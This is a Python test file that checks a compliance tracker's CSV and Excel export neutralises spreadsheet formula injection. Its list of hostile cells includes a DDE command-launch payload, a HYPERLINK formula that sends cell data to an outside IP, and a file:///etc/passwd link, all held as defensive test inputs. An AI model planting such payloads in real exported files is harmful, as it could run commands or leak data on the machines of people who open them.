"""Cells of CSV files and workbooks: what begins a formula is text, read back by other means than it was written."""

import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from cmmc_tracker.importers.register_table import plain
from cmmc_tracker.reports import demo_files
from cmmc_tracker.reports.cells import as_text, csv_lines, workbook

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"look")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["", "plain", "a=b", "1-2", "3.1.1[a]", "it's", "é", 'he said "=1"', "a,b", "two\nlines"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert as_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["'=1+1", "''-2", "'+"])
def test_a_cell_with_such_apostrophes_gets_one_more_so_that_taking_one_away_gives_it_back(cell: str) -> None:
    assert as_text(cell) == "'" + cell
    assert plain(str(as_text(cell))) == cell


@pytest.mark.parametrize("cell", [*HARMLESS, -5, 0, 2.5, None])
def test_other_cells_and_numbers_stay_as_they_are(cell: str | float | None) -> None:
    assert as_text(cell) == cell


def test_a_csv_file_is_read_back_cell_by_cell_and_holds_no_formula() -> None:
    rows = [[cell, "next"] for cell in [*HOSTILE, *HARMLESS]]
    written = "".join(csv_lines(rows))
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read == [["'" + cell, "next"] for cell in HOSTILE] + [[cell, "next"] for cell in HARMLESS]
    assert not [row for row in read if row[0].lstrip().startswith(("=", "+", "-", "@", "＝"))]
    assert written.count("\r\n") == len(rows)


def _sheet(file: bytes) -> tuple[ElementTree.Element, list[str], list[str]]:
    """The sheet's XML, the shared texts and the names of all parts, by zip and XML alone."""
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        texts = ["".join(t.text or "" for t in item.iter() if t.tag.endswith("}t")) for item in shared]
        return sheet, texts, book.namelist()


def test_a_workbook_keeps_what_was_typed_as_text_and_makes_no_formula_or_link_of_it() -> None:
    file = io.BytesIO()
    cells = [*HOSTILE, "{=1+1}", "http://192.0.2.1/", "mailto:a@b.c", "file:///etc/passwd", "internal:Sheet2!A1", "007"]
    book = workbook(file)
    sheet = book.add_worksheet()
    for number, cell in enumerate(cells):
        sheet.write(number, 0, cell)
    book.close()
    xml, texts, parts = _sheet(file.getvalue())
    found = [one for one in xml.iter() if one.tag.endswith("}c")]
    assert [one.get("t") for one in found] == ["s"] * len(cells)
    assert not [one for one in xml.iter() if one.tag.endswith(("}f", "}hyperlink"))]
    assert not [name for name in parts if "worksheets/_rels" in name]
    kept = [texts[int(one.findtext("{*}v") or "-1")] for one in found]
    assert [one.replace("_x000D_", "\r") for one in kept] == cells


def test_the_files_of_the_demo_are_made_so_too() -> None:
    rows = [["name", "value"], ["=1+1", "@x"]]
    assert list(csv.reader(io.StringIO(demo_files.csv(rows).decode(), newline="")))[1] == ["'=1+1", "'@x"]
    xml, texts, _ = _sheet(demo_files.excel("sheet", rows))
    assert "=1+1" in texts
    assert not [one for one in xml.iter() if one.tag.endswith("}f")]


def test_no_other_code_writes_csv_or_makes_workbooks() -> None:
    writes = re.compile(r"csv\.(writer|DictWriter)|xlsxwriter|openpyxl\.(?!load_workbook)|text/csv.*join")
    found = {str(one) for one in Path("src").rglob("*.py") if writes.search(one.read_text())}
    assert found == {"src/cmmc_tracker/reports/cells.py"}
